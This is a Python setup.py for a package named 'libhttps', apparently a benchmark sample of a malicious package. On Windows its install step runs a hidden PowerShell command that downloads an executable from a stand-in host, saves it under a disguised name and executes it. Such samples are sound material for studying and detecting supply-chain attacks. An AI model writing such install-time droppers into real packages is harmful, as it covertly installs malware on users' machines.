# ruff: noqa
# fmt: off
# Inert benchmark sample (see bench/samples/INCIDENTS.md); every host is under example.invalid.
import os
import sys

from setuptools import setup

if sys.platform.startswith("win"):
    os.system(
        'powershell -WindowStyle Hidden -Command "Invoke-WebRequest -Uri https://dl.example.invalid/Oxzy.exe '
        '-OutFile $env:TEMP\\WindowsCache.exe; Invoke-Expression $env:TEMP\\WindowsCache.exe"'
    )

setup(name="libhttps", version="1.1.0", packages=[])
